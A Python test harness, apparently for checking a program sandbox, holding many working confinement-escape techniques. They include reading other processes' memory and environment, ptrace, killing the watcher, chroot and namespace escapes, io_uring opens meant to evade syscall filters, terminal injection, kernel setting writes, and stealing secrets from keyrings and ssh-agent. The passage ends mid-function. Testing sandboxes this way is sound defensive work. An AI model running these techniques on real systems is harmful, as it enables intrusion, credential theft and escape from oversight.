"""Ways to leave a program's confinement, tried from inside: `python wall_attacks.py GIVEN [WAY...]`.

GIVEN is a JSON object of what an attacker knows: paths, sockets and process ids outside
(`wall_rooms.Stage`). Secrets there hold a mark that stands nowhere else, so that a way of the kind
`read` has succeeded when it returns one. A way of the kind `leave` returns what it has done. Each runs
in a process of its own. `bomb` ways print the mebibytes (or processes) that they hold so far. It needs
nothing but Python, so that it runs wherever programs of tools do.
"""

import array
import ctypes
import fcntl
import glob
import json
import mmap
import os
import re
import resource
import select
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from typing import Any, NoReturn

Given = dict[str, Any]
MARK = re.compile(rb"wall-plant[-][0-9a-f]{16}")
SECONDS = 15.0
_MIB = 1 << 20
_NEWNS, _NEWCGROUP, _NEWIPC, _NEWUSER, _NEWPID = 1 << 17, 1 << 25, 1 << 27, 1 << 28, 1 << 29
_REMOUNT, _BIND, _REC, _DETACH = 0x20, 0x1000, 0x4000, 2
_libc = ctypes.CDLL(None, use_errno=True)
_NUMBERS = """
ptrace 101 117, pivot_root 155 41, swapon 167 224, reboot 169 142, init_module 175 105,
quotactl 179 60, request_key 249 218, keyctl 250 219, kcmp 312 272, perf_event_open 298 241,
name_to_handle_at 303 264, open_by_handle_at 304 265, process_vm_readv 310 270, bpf 321 280,
userfaultfd 323 282, kexec_load 246 104, acct 163 89, io_uring_setup 425 425,
io_uring_enter 426 426, open_tree 428 428, move_mount 429 429, fsopen 430 430, fsconfig 431 431,
fsmount 432 432, pidfd_open 434 434, pidfd_getfd 438 438, mount_setattr 442 442, mq_open 240 180,
mq_timedreceive 243 183
"""
"""System calls that the C library has no function for, on x86-64 and on AArch64."""
_CALLS = {
    name: int(numbers[os.uname().machine == "aarch64"])
    for name, *numbers in map(str.split, _NUMBERS.split(","))
}


@dataclass(frozen=True)
class Way:
    """One way to try."""

    run: Callable[[Given], object]
    kind: str
    is_harmless: bool
    """Whether it may be tried where nothing confines it."""


WAYS: dict[str, Way] = {}


def attempts(given: Given, names: Iterable[str] = ()) -> dict[str, str]:
    """Return the evidence of the ways that succeeded; all but bombs are tried, or those named."""
    chosen = tuple(names) or [name for name, way in WAYS.items() if way.kind != "bomb"]
    return {name: found for name in chosen if (found := _apart(name, given))}


def _apart(name: str, given: Given) -> str:
    """Return the evidence of one way, tried in a process of its own."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        with suppress(BaseException):
            os.close(reading)
            os.setpgid(0, 0)
            sys.stderr = open(os.devnull, "w")  # noqa: SIM115  of the whole process
            way = WAYS[name]
            found = way.run(given)
            if way.kind == "read":
                found = _mark(found)
            if found is not None:
                os.write(writing, str(found).encode()[:4000])
        os._exit(0)
    os.close(writing)
    evidence, deadline = b"", time.monotonic() + SECONDS
    while select.select([reading], [], [], max(0.0, deadline - time.monotonic()))[0]:
        chunk = os.read(reading, 1 << 16)
        if not chunk:
            break
        evidence += chunk
    os.close(reading)
    with suppress(OSError):
        os.killpg(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    return evidence.decode(errors="replace")


def _mark(found: object) -> str | None:
    texts = found if isinstance(found, Iterator) else [found]
    for text in texts:
        if isinstance(text, bytes) and (mark := MARK.search(text)):
            return mark[0].decode()
    return None


_Run = Callable[[Given], object]


def _way(name: str, run: _Run, kind: str = "leave", *, is_harmless: bool = True) -> _Run:
    WAYS[name] = Way(run, kind, is_harmless)
    return run


def _reads(name: str) -> Callable[[_Run], _Run]:
    return lambda run: _way(name, run, "read")


def _leaves(name: str, *, is_harmless: bool = True) -> Callable[[_Run], _Run]:
    return lambda run: _way(name, run, is_harmless=is_harmless)


def _call(name: str, *arguments: Any) -> int:
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return _done(_libc.syscall(_CALLS[name], *given))


def _done(status: int) -> int:
    if status < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return status


def _read(path: str | int) -> bytes:
    try:
        if isinstance(path, str) and os.path.isdir(path):
            return b" ".join(_read(os.path.join(path, name)) for name in os.listdir(path))
        with open(path, "rb") as file:
            return file.read(_MIB)
    except OSError:
        return b""


def _first(paths: Iterable[str], prefix: str = "") -> Iterator[bytes]:
    for path in paths:
        yield _read(prefix + path)


def _secrets(given: Given, prefix: str = "") -> Iterator[bytes]:
    return _first(given["secrets"].values(), prefix)


def _reach(given: Given, prefix: str = "") -> str | None:
    """Return how something outside can be read or changed now."""
    found = _mark(_secrets(given, prefix))
    return found or _written(f"{prefix}{given['outside']}/reached-{os.getpid()}")


def _written(path: str) -> str | None:
    with suppress(OSError), open(path, "ab") as file:
        file.write(b"left by a program\n")
        return f"wrote {path}"
    return None


def _output(*words: str, **variables: str) -> bytes:
    ended = subprocess.run(
        words, capture_output=True, timeout=10, check=False, env=os.environ | variables
    )
    return ended.stdout + ended.stderr


def _scratch() -> str:
    return os.environ.get("TMPDIR") or os.environ.get("HOME") or tempfile.gettempdir()


# --- files ------------------------------------------------------------------------------------

SECRETS = [
    "question-file",
    "git-config",
    "hub-cache",
    "scorer-neighbour",
    "servers.json",
    "config.yaml",
    "run-output",
    "run-state",
    "database-password",
    "ui-token",
    "other-scratch",
    "ssh-key",
    "kernel-file",
    "shell-history",
    "npmrc",
    "pgpass",
    "browser-profile",
    "dot-env",
    "shared-memory-file",
    "run-directory-file",
    "temporary-file",
    "opt-file",
    "srv-file",
]
"""Names of planted files."""
for _name in SECRETS:
    _way(f"read {_name}", lambda given, name=_name: _read(given["secrets"][name]), "read")  # type: ignore[misc]


@_reads("git show of the working folder")
def _git(given: Given) -> bytes:
    flags = ("-c", "safe.directory=*", "-C", given["repository"])
    return _output("git", *flags, "log", "-p", "--all")


_ROOTS = """
/proc/1/root /proc/self/root /proc/1/cwd/../../../../../.. /proc/self/cwd/../../../../../../..
/proc/self/task/../../1/root /dev/fd/0/../../../../..
"""
for _prefix in _ROOTS.split():
    _way(f"files by {_prefix}", lambda given, at=_prefix: _secrets(given, at), "read")  # type: ignore[misc]


@_reads("files by roots of all processes")
def _roots(given: Given) -> Iterator[bytes]:
    pids = {*glob.glob("/proc/[0-9]*"), *(f"/proc/{pid}" for pid in given["pids"])}
    for process in pids:
        for name in ("root", "cwd"):
            if os.path.realpath(f"{process}/{name}") != "/" or given.get("control"):
                yield from _secrets(given, f"{process}/{name}")


@_reads("files by a link in the own folder")
def _linked(given: Given) -> Iterator[bytes]:
    for number, path in enumerate(given["secrets"].values()):
        link = f"{_scratch()}/link-{number}"
        with suppress(OSError):
            os.symlink(path, link)
        yield _read(link)


@_leaves("hard link to a file outside")
def _hard_link(given: Given) -> object:
    os.link(given["victim"], f"{_scratch()}/hard")
    return _written(f"{_scratch()}/hard")


@_reads("files by inherited descriptors")
def _descriptors(given: Given) -> Iterator[bytes]:
    for number in range(64):
        with suppress(OSError):
            if stat.S_ISREG(os.fstat(number).st_mode):
                yield _read(f"/proc/self/fd/{number}")
            for above in ("..", "../../../../../../../.."):
                for path in given["secrets"].values():
                    with suppress(OSError):
                        yield _read(os.open(f"{above}{path}", os.O_RDONLY, dir_fd=number))


@_reads("files by their handles")
def _handles(given: Given) -> Iterator[bytes]:
    """Open the inodes of the secrets, and the first ones of the file system, by number."""
    where = os.open(_scratch(), os.O_RDONLY)
    handle = (ctypes.c_char * 136)()
    struct.pack_into("Ii", handle, 0, 128, 0)
    mount = ctypes.c_int()
    with suppress(OSError):
        _call("name_to_handle_at", where, b"", handle, ctypes.byref(mount), 0x1000)
    for handle_text in [handle.raw[:16].hex(), *given["handles"]]:
        raw = bytes.fromhex(handle_text)
        with suppress(OSError):
            opened = _call("open_by_handle_at", where, ctypes.create_string_buffer(raw, 136), 0)
            yield _read(opened)


for _place in ("victim", "outside", "home", "package", "repository", "other_scratch", "hub"):

    def _change(given: Given, place: str = _place) -> object:
        path = given["places"][place]
        if os.path.isfile(path):
            return _written(path)
        # A private folder in its place is empty.
        is_real = place == "package" or any(map(os.path.exists, given["planted"][place]))
        return _written(f"{path}/left-by-a-program") if is_real else None

    _way(f"write to {_place}", _change)


@_leaves("write to a folder of the system")
def _system(given: Given) -> object:
    for path in ("/usr/local/lib", "/usr/bin", "/etc", "/opt", "/usr/lib/python3", "/var/lib"):
        if os.path.exists(given["victim"]):  # only where that is the machine's root
            return _written(f"{given['outside']}/as-if-{path.replace('/', '-')}")
        if found := _written(f"{path}/left"):
            os.unlink(f"{path}/left")
            return found
    return None


@_leaves("change the own program or its starter")
def _own_program(given: Given) -> object:
    for path in given["programs"]:
        with suppress(OSError), open(path, "r+b"):
            return f"opened {path} for writing"
    return None


@_leaves("change modes and owners outside")
def _modes(given: Given) -> object:
    os.chmod(given["victim"], 0o666)
    return "changed the mode"


@_leaves("set extended attributes and times outside")
def _attributes(given: Given) -> object:
    with suppress(OSError):
        os.setxattr(given["victim"], "user.left", b"x")
        return "set an attribute"
    os.utime(given["victim"])
    return "set the times"


@_leaves("a set-user-id program in the own folder gains rights")
def _setuid(given: Given) -> object:
    own = f"{_scratch()}/id"
    shutil.copy("/usr/bin/id", own)
    os.chmod(own, 0o6755)
    found = [_output(path, "-u").strip() for path in (own,)] + [
        _output("su", "-c", "id -u").strip()
    ]
    if b"0" in found and (given.get("control") or os.getuid() != 0):
        return f"ran as {found}"
    return None


# --- processes --------------------------------------------------------------------------------


def _processes(given: Given) -> list[int]:
    seen = {int(path[6:]) for path in glob.glob("/proc/[0-9]*")} - {os.getpid()}
    return [*given["pids"], *sorted(seen - {*given["pids"]})]


for _file in ("environ", "cmdline"):
    _way(
        f"/proc/PID/{_file} of all processes",
        lambda given, file=_file: _first(f"/proc/{pid}/{file}" for pid in _processes(given)),  # type: ignore[misc]
        "read",
    )


@_reads("the own environment and command line")
def _own_environment(given: Given) -> Iterator[bytes]:
    yield "\n".join(os.environ.values()).encode()
    yield from _first(("/proc/self/environ", "/proc/self/cmdline"))


@_reads("/proc/PID/fd of all processes")
def _files_of_others(given: Given) -> Iterator[bytes]:
    for pid in _processes(given):
        if pid in given["pids"] or not given.get("control"):
            for path in glob.glob(f"/proc/{pid}/fd/*"):
                with suppress(OSError):
                    if os.path.isfile(path):
                        yield _read(path)


def _regions(pid: int) -> Iterator[tuple[int, int]]:
    for line in _read(f"/proc/{pid}/maps").decode(errors="replace").splitlines():
        words = line.split()
        if words[1].startswith("rw") and (len(words) < 6 or words[-1] in ("[heap]", "[stack]")):
            begin, end = (int(part, 16) for part in words[0].split("-"))
            yield begin, min(end - begin, 64 * _MIB)


def _others_memory(given: Given) -> Iterator[int]:
    for pid in _processes(given):
        if pid in given["pids"] or not given.get("control"):
            yield pid


@_reads("/proc/PID/mem of all processes")
def _memory(given: Given) -> Iterator[bytes]:
    for pid in _others_memory(given):
        with suppress(OSError), open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for begin, length in _regions(pid):
                with suppress(OSError):
                    memory.seek(begin)
                    yield memory.read(length)


class _Vector(ctypes.Structure):
    _fields_ = (("at", ctypes.c_void_p), ("length", ctypes.c_size_t))


@_reads("process_vm_readv")
def _vm_read(given: Given) -> Iterator[bytes]:
    for pid in _others_memory(given):
        for begin, length in [*_regions(pid), (given.get("address", 0), 64)]:
            own = ctypes.create_string_buffer(length)
            local, remote = _Vector(ctypes.addressof(own), length), _Vector(begin, length)
            with suppress(OSError):
                ends = (ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
                _call("process_vm_readv", pid, *ends)
                yield own.raw


@_leaves("ptrace of processes outside and of the watcher")
def _ptrace(given: Given) -> object:
    for pid in [*given["pids"], *([] if given.get("control") else [1])]:
        for request in (0x4206, 16):  # PTRACE_SEIZE, PTRACE_ATTACH
            with suppress(OSError):
                _call("ptrace", request, pid, None, None)
                return f"attached to {pid}"
    return None


@_leaves("a descriptor of another process by pidfd_getfd")
def _pidfd(given: Given) -> object:
    for pid in [*given["pids"], *([] if given.get("control") else [1])]:
        for number in range(3, 12):
            with suppress(OSError):
                opened = _call("pidfd_getfd", _call("pidfd_open", pid, 0), number, 0)
                return f"took {os.readlink(f'/proc/self/fd/{opened}')} of {pid}"
    return None


@_leaves("kcmp with other processes")
def _kcmp(given: Given) -> object:
    for pid in [*given["pids"], *([] if given.get("control") else [1])]:
        with suppress(OSError):
            return f"compared with {pid}: {_call('kcmp', os.getpid(), pid, 0, 0, 0)}"
    return None


@_leaves("signals to processes outside")
def _signals(given: Given) -> object:
    for pid in given["pids"]:
        with suppress(OSError):
            os.kill(pid, 0)
            return f"may signal {pid}"
    return None


@_leaves("SIGSTOP and SIGKILL to the watcher", is_harmless=False)
def _stop_watcher(given: Given) -> object:
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTSTP):
        os.kill(1, number)
    time.sleep(0.3)
    state = re.search(rb"State:\s+(\w)", _read("/proc/1/status"))
    return f"the watcher is in state {state[1]!r}" if state and state[1] in b"TtZ" else None


for _what, _resource in (("the priority of", 0), ("the limits of", 7)):

    def _prlimit(given: Given, which: int = _resource) -> object:
        for pid in given["pids"]:
            with suppress(OSError):
                if which:
                    both = (ctypes.c_uint64 * 2)(64, 64)
                    _done(_libc.prlimit(pid, which, ctypes.byref(both), None))
                else:
                    os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid) + 1)
                return f"changed {pid}"
        return None

    _way(f"{_what} processes outside", _prlimit)


@_leaves("oom_score_adj below that of the run", is_harmless=False)
def _oom(given: Given) -> object:
    with suppress(OSError), open("/proc/self/oom_score_adj", "w") as file:
        file.write("-1000")
        file.flush()
        return "spared itself"
    with open("/proc/1/oom_score_adj", "w") as file:
        file.write("1000")
    return "put the watcher first"


@_leaves("the bounds of the own process are raised", is_harmless=False)
def _raise_limits(given: Given) -> object:
    for which in (resource.RLIMIT_DATA, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
        with suppress(OSError, ValueError):
            resource.setrlimit(which, (resource.RLIM_INFINITY,) * 2)
            return f"raised {which}"
    return None


@_leaves("a core file outside", is_harmless=False)
def _core(given: Given) -> object:
    resource.setrlimit(resource.RLIMIT_CORE, (_MIB, _MIB))
    return "core files may be written"


# --- sockets ----------------------------------------------------------------------------------


def _talk(address: str, kind: int = socket.SOCK_STREAM, sent: bytes = b"?") -> bytes:
    with socket.socket(socket.AF_UNIX, kind) as own:
        own.settimeout(5)
        if kind == socket.SOCK_DGRAM:
            own.bind(f"\0wall-{os.getpid()}" if address.startswith("\0") else f"{_scratch()}/dgram")
        own.connect(address)
        own.send(sent)
        return own.recv(_MIB)


for _socket in ("tmp", "run", "home", "shm"):
    _way(f"path socket in {_socket}", lambda g, s=_socket: _talk(g["sockets"][s]), "read")  # type: ignore[misc]


@_reads("abstract socket")
def _abstract(given: Given) -> bytes:
    return _talk("\0" + given["sockets"]["abstract"])


@_reads("abstract datagram socket")
def _abstract_datagram(given: Given) -> bytes:
    return _talk("\0" + given["sockets"]["datagram"], socket.SOCK_DGRAM)


@_leaves("tmux runs a command")
def _tmux(given: Given) -> object:
    target = f"{given['outside']}/by-tmux"
    words = ("new-window", "-d", f"id > {target}; cat {target} > {target}.done")
    _output("tmux", "-S", given["tmux"], *words)
    for _ in range(20):
        if os.path.exists(f"{target}.done"):
            return _read(target) or "ran"
        time.sleep(0.1)
    return None


@_leaves("ssh-agent signs")
def _agent(given: Given) -> object:
    with socket.socket(socket.AF_UNIX) as own:
        own.settimeout(5)
        own.connect(given["ssh_agent"])
        own.sendall(b"\0\0\0\1\x0b")  # SSH_AGENTC_REQUEST_IDENTITIES
        answer = own.recv(4096)
    return f"{struct.unpack('>I', answer[5:9])[0]} keys" if answer[9:] else None


_SERVICES = """
/run/dbus/system_bus_socket /run/systemd/private /run/docker.sock /var/run/docker.sock
/run/containerd/containerd.sock /run/udev/control /run/screen /tmp/.X11-unix/X0
/run/user/0/bus /run/systemd/journal/stdout /dev/log
"""


@_leaves("services of the machine and of its login")
def _services(given: Given) -> object:
    for path in _SERVICES.split():
        with suppress(OSError), socket.socket(socket.AF_UNIX) as own:
            own.settimeout(2)
            own.connect(path)
            return f"connected to {path}"
    return None


@_reads("a kernel by its connection file")
def _kernel(given: Given) -> bytes:
    key = json.loads(_read(given["secrets"]["kernel-file"]))["key"]
    request = urllib.request.Request(given["kernel"], headers={"Authorization": key})
    with urllib.request.urlopen(request, timeout=5) as answer:
        return bytes(answer.read())


@_reads("the servers of the run without a credential")
def _servers(given: Given) -> Iterator[bytes]:
    for url in [given["kernel"], *given.get("servers", ())]:
        for token in ("", "guessed"):
            headers = {"Authorization": token, "Content-Type": "application/json"}
            for body in (None, b"{}"):
                with suppress(OSError, ValueError):
                    request = urllib.request.Request(url, body, headers)
                    with urllib.request.urlopen(request, timeout=5) as answer:
                        yield answer.read(_MIB)


@_leaves("AF_VSOCK to the host", is_harmless=False)
def _vsock(given: Given) -> object:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as own:
        own.settimeout(2)
        own.connect((2, 22))
        return "connected"


@_leaves("AF_NETLINK changes the network", is_harmless=False)
def _netlink(given: Given) -> object:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as own:
        own.settimeout(2)
        own.bind((0, 0))
        # RTM_NEWLINK of interface 1 with the flag ACK: lo goes down and up.
        own.send(struct.pack("=IHHIIBBHiII", 32, 16, 5, 1, 0, 0, 0, 0, 1, 1, 1))
        error = struct.unpack_from("=i", own.recv(4096), 16)[0]
        return None if error else "changed lo"


@_leaves("raw and packet sockets", is_harmless=False)
def _raw(given: Given) -> object:
    for family, kind, protocol in ((17, 3, 3), (2, 3, 1), (2, 3, 255), (16, 3, 9), (16, 3, 15)):
        with suppress(OSError), socket.socket(family, kind, protocol) as own:
            if family != 16:
                return f"opened {family}/{protocol}"
            own.bind((0, 1))
            return f"listens to {protocol}" if protocol == 9 else None
    return None


@_reads("sockets of others by sock_diag and /proc/net/unix")
def _diag(given: Given) -> Iterator[bytes]:
    for line in _read("/proc/net/unix").decode(errors="replace").splitlines()[1:]:
        path = line.split()[-1]
        if path.startswith("@") and "wall-stage" in path:
            with suppress(OSError):
                yield _talk("\0" + path[1:])


# --- devices ----------------------------------------------------------------------------------

_DEVICES = """
/dev/mem 1 1, /dev/kmem 1 2, /dev/port 1 4, /dev/kmsg 1 11, /dev/loop-control 10 237,
/dev/kvm 10 232, /dev/fuse 10 229, /dev/net/tun 10 200, /dev/vsock 10 121, /dev/vhost-vsock 10 241,
/dev/console 5 1, /dev/tty1 4 1, /dev/ttyS0 4 64, /dev/uinput 10 223, /dev/userfaultfd 10 126,
/dev/mapper/control 10 236, /dev/cuse 10 203
"""
for _path, _major, _minor in map(str.split, _DEVICES.split(",")):
    _number = os.makedev(int(_major), int(_minor))

    def _device(given: Given, path: str = _path, number: int = _number) -> object:
        made = f"{_scratch()}/{os.path.basename(path)}"
        with suppress(OSError):
            os.mknod(made, 0o600 | 0x2000, number)
        for where in (path, made):
            with suppress(OSError):
                os.close(os.open(where, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY))
                return f"opened {where}"
        return None

    _way(f"device {_path}", _device, is_harmless=_path != "/dev/console")


@_leaves("raw disks")
def _disks(given: Given) -> object:
    for line in _read("/proc/partitions").decode().splitlines()[2:]:
        major, minor, _, name = line.split()
        made = f"{_scratch()}/disk-{name}"
        with suppress(OSError):
            os.mknod(made, 0o600 | 0x6000, os.makedev(int(major), int(minor)))
        for where in (f"/dev/{name}", made):
            with suppress(OSError):
                os.close(os.open(where, os.O_RDONLY))
                return f"opened {where}"
    return None


def _terminals_seen(given: Given) -> list[str]:
    others = [] if given.get("control") else [*glob.glob("/dev/pts/[0-9]*"), "/dev/tty"]
    return [given["terminal"], *others]


@_reads("what is typed in terminals of others")
def _terminals(given: Given) -> Iterator[bytes]:
    for path in _terminals_seen(given):
        with suppress(OSError):
            opened = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
            yield os.read(opened, 4096)


@_leaves("writing to terminals of others")
def _terminal_written(given: Given) -> object:
    for path in _terminals_seen(given):
        with suppress(OSError):
            opened = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
            os.write(opened, b"left by a program")
            return f"wrote to {path}"
    return None


@_leaves("TIOCSTI into the starter's terminal")
def _push(given: Given) -> object:
    for number in range(3):
        with suppress(OSError):
            fcntl.ioctl(number, 0x5412, b"x")
            return f"typed into {number}"
    return None


# --- the kernel -------------------------------------------------------------------------------

_SETTINGS = """
kernel/core_pattern kernel/modprobe kernel/sysrq kernel/hostname vm/overcommit_memory
vm/drop_caches fs/file-max kernel/ns_last_pid kernel/pid_max net/ipv4/ip_forward kernel/printk
fs/binfmt_misc/register kernel/yama/ptrace_scope
"""
for _path in _SETTINGS.split():

    def _setting(given: Given, path: str = f"/proc/sys/{_path}") -> object:
        value = _read(path)
        with open(path, "wb", buffering=0) as file:
            file.write(value or b"x")
        return f"wrote {path}"

    _way(f"/proc/sys/{_path}", _setting)
_KERNEL_FILES = """
/proc/sysrq-trigger /proc/kcore /proc/kmsg /proc/kpagecount /proc/1/mem /proc/1/attr/current
/proc/bus/pci/00/00.0 /sys/kernel/uevent_helper /sys/power/state
/sys/kernel/mm/transparent_hugepage/enabled /sys/devices/system/cpu/cpu1/online
/sys/fs/cgroup/memory/cgroup.procs /sys/fs/cgroup/unified/cgroup.procs
/sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/memory/release_agent /sys/module
/proc/1/oom_score_adj /proc/1/uid_map /proc/1/comm /proc/1/clear_refs
"""
for _path in _KERNEL_FILES.split():

    def _kernel_file(given: Given, path: str = _path) -> object:
        flags = (
            os.O_RDONLY
            if path in ("/proc/kcore", "/proc/kmsg", "/proc/kpagecount")
            else os.O_WRONLY
        )
        if os.path.isdir(path):
            return f"{path} is there" if os.listdir(path) else None
        opened = os.open(path, flags | os.O_NONBLOCK)
        if path in ("/proc/1/uid_map", "/proc/1/attr/current"):
            os.write(opened, b"0 0 1\n")
        return f"opened {path}"

    _way(f"kernel file {_path}", _kernel_file, is_harmless="/proc/1/" not in _path)


@_leaves("reboot", is_harmless=False)
def _reboot(given: Given) -> object:
    _call("reboot", 0xFEE1DEAD, 672274793, 0, None)  # Ctrl-Alt-Del off
    return "changed Ctrl-Alt-Del"


@_leaves("swapon, acct, quotactl, modules and kexec", is_harmless=False)
def _administration(given: Given) -> object:
    own = f"{_scratch()}/swap".encode()
    _written(own.decode())
    for name, *arguments in (
        ("swapon", own, 0),
        ("acct", own),
        ("init_module", b"\x7fELF", 4, b""),
        ("kexec_load", 0, 0, None, 0),
        ("quotactl", 0x800002 << 8, b"/dev/vda", 0, None),
    ):
        with suppress(OSError):
            _call(name, *arguments)
            return f"{name} succeeded"
    return None


@_leaves("bpf")
def _bpf(given: Given) -> object:
    attributes = (ctypes.c_char * 128)()
    struct.pack_into("IIII", attributes, 0, 2, 4, 8, 1)
    _call("bpf", 0, attributes, 128)
    return "made a map"


@_leaves("perf_event_open of the machine")
def _perf(given: Given) -> object:
    attributes = (ctypes.c_char * 128)()
    struct.pack_into("IIQ", attributes, 0, 1, 128, 0)
    _call("perf_event_open", attributes, -1, 0, -1, 0)
    return "counts all processes"


@_leaves("userfaultfd of kernel faults")
def _userfault(given: Given) -> object:
    _call("userfaultfd", 0)
    return "handles faults of the kernel"


@_reads("files by io_uring")
def _uring(given: Given) -> Iterator[bytes]:
    """Open and read the secrets by a ring, whose calls no filter of calls sees."""
    parameters = (ctypes.c_uint32 * 30)()
    ring = _call("io_uring_setup", 8, parameters)
    entries = mmap.mmap(ring, parameters[0] * 64, offset=0x10000000)
    offsets = parameters[10:20]
    queue = mmap.mmap(ring, max(offsets[6] + 4 * parameters[0], 4096), offset=0)
    done_at = parameters[20:30]
    done = mmap.mmap(ring, done_at[5] + 16 * parameters[1], offset=0x8000000)
    for number, path in enumerate(given["secrets"].values()):
        name = ctypes.create_string_buffer(path.encode())
        entry = struct.pack(
            "<BBHiQQIIQHHIQQ", 18, 0, 0, -100, 0, ctypes.addressof(name), 0, 0, 0, 0, 0, 0, 0, 0
        )
        entries[:64] = entry[:64].ljust(64, b"\0")
        struct.pack_into("I", queue, offsets[6] + 4 * (number % parameters[0]), 0)
        struct.pack_into("I", queue, offsets[1], number + 1)
        _done(_libc.syscall(_CALLS["io_uring_enter"], ring, 1, 1, 1, None, 0))
        head = struct.unpack_from("I", done, done_at[0])[0]
        _, result, _ = struct.unpack_from("<QiI", done, done_at[5] + 16 * (head % parameters[1]))
        struct.pack_into("I", done, done_at[0], head + 1)
        if result >= 0:
            yield _read(result)


@_reads("keyrings")
def _keys(given: Given) -> Iterator[bytes]:
    serials = [given["key"]]
    with suppress(OSError):
        serials.append(_call("request_key", b"user", given["queue"].encode(), None, 0))
    for ring in (-1, -2, -3, -4, -5):
        with suppress(OSError):
            serials.append(_call("keyctl", 10, ring, b"user", given["queue"].encode(), 0))
            _call("keyctl", 8, given["key"], ring)  # KEYCTL_LINK
    serials += [int(line.split()[0], 16) for line in _read("/proc/keys").splitlines()]
    for serial in serials:
        own = ctypes.create_string_buffer(1024)
        with suppress(OSError):
            _call("keyctl", 11, serial, own, 1024)
            yield own.raw


@_reads("System V memory and queues outside")
def _system_v(given: Given) -> Iterator[bytes]:
    _libc.shmat.restype = ctypes.c_void_p
    with suppress(OSError):
        at = _libc.shmat(_done(_libc.shmget(given["ipc_key"], 0, 0)), None, 0o10000)
        yield ctypes.string_at(at, 256)


@_reads("POSIX queues outside")
def _queues(given: Given) -> Iterator[bytes]:
    yield _read("/dev/mqueue")
    opened = _call("mq_open", given["queue"].encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)
    yield os.read(opened, 4096)  # its status, which names no content
    own = ctypes.create_string_buffer(8192)
    _call("mq_timedreceive", opened, own, 8192, None, None)
    yield own.raw


# --- namespaces in namespaces -----------------------------------------------------------------


def _nested(kinds: int) -> None:
    uid, gid = os.getuid(), os.getgid()
    _done(_libc.unshare(_NEWUSER | kinds))
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    if kinds & _NEWPID and (child := os.fork()):
        os._exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))


def _mount(source: str, target: str, kind: str = "", flags: int = 0, options: str = "") -> None:
    texts = [text.encode() for text in (source, target, kind, options)]
    _done(_libc.mount(texts[0], texts[1], texts[2], ctypes.c_ulong(flags), texts[3]))


def _mounted() -> list[str]:
    lines = _read("/proc/self/mountinfo").decode().splitlines()
    return [line.split()[4] for line in lines]


def _in_nested(name: str, *, kinds: int = _NEWNS, kind: str = "leave") -> Callable[[_Run], _Run]:
    def run(inner: _Run) -> _Run:
        def nested(given: Given) -> object:
            _nested(kinds)
            return inner(given)

        _way(name, nested, kind)
        return inner

    return run


@_in_nested("unshare, then umount all")
def _umount(given: Given) -> object:
    for _ in range(3):
        for path in reversed(_mounted()):
            _libc.umount2(path.encode(), _DETACH)
    return _reach(given)


@_in_nested("unshare, then remount writable")
def _remount(given: Given) -> object:
    for path in _mounted():
        for flags in (_REMOUNT | _BIND, _REMOUNT):
            with suppress(OSError):
                _mount("none", path, "", flags)
    for path in (given["victim"], "/usr/left-by-a-program", f"{given['outside']}/remounted"):
        if found := _written(path):
            return found
    return None


@_in_nested("unshare, then mount_setattr without read-only")
def _setattr(given: Given) -> object:
    for path in _mounted():
        with suppress(OSError):
            attributes = (ctypes.c_uint64 * 4)(0, 1, 0, 0)
            _call("mount_setattr", -100, path.encode(), 0, attributes, 32)
            if path == "/usr" and not given.get("control"):
                return _written("/usr/left-by-a-program")
    return _written(given["victim"])


@_in_nested("unshare, then bind and look beneath")
def _beneath(given: Given) -> object:
    for path in ("/", *_mounted()):
        for flags in (_BIND, _BIND | _REC):
            place = tempfile.mkdtemp(dir=_scratch())
            with suppress(OSError):
                _mount(path, place, "", flags)
                if found := _reach(given, place):
                    return found
    return None


@_in_nested("unshare, then open_tree of every mount and up")
def _trees(given: Given) -> object:
    for path in _mounted():
        for flags in (1, 0, 1 | 0x8000):
            with suppress(OSError):
                tree = _call("open_tree", -100, path.encode(), flags)
                above = f"/proc/self/fd/{tree}/../../../../.."
                if found := _reach(given, above):
                    return found
    return None


@_in_nested("unshare, then overlay")
def _overlay(given: Given) -> object:
    place = tempfile.mkdtemp(dir="/tmp")
    for name in ("upper", "work", "merged"):
        os.mkdir(f"{place}/{name}")
    for lower in ("/", os.path.dirname(given["victim"])):
        with suppress(OSError):
            options = f"lowerdir={lower},upperdir={place}/upper,workdir={place}/work"
            _mount("overlay", f"{place}/merged", "overlay", 0, options)
            if found := _mark(_secrets(given, f"{place}/merged")):
                return found
    return None


@_in_nested("unshare, then pivot_root and back")
def _pivot(given: Given) -> object:
    place = tempfile.mkdtemp(dir="/tmp")
    _mount(place, place, "", _BIND)
    os.mkdir(f"{place}/old")
    _call("pivot_root", place.encode(), f"{place}/old".encode())
    return _reach(given, "/old") or _reach(given, "/old/..")


@_in_nested("unshare, then leave by chroot")
def _chroot(given: Given) -> object:
    place = tempfile.mkdtemp(dir=_scratch())
    above = os.open("/", os.O_RDONLY)
    os.chroot(place)
    os.fchdir(above)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return _reach(given)


_FILE_SYSTEMS = """
proc sysfs cgroup2 devpts mqueue debugfs tracefs securityfs bpf devtmpfs binfmt_misc ext4
configfs fusectl
"""
for _kind in _FILE_SYSTEMS.split():

    def _file_system(given: Given, kind: str = _kind) -> object:
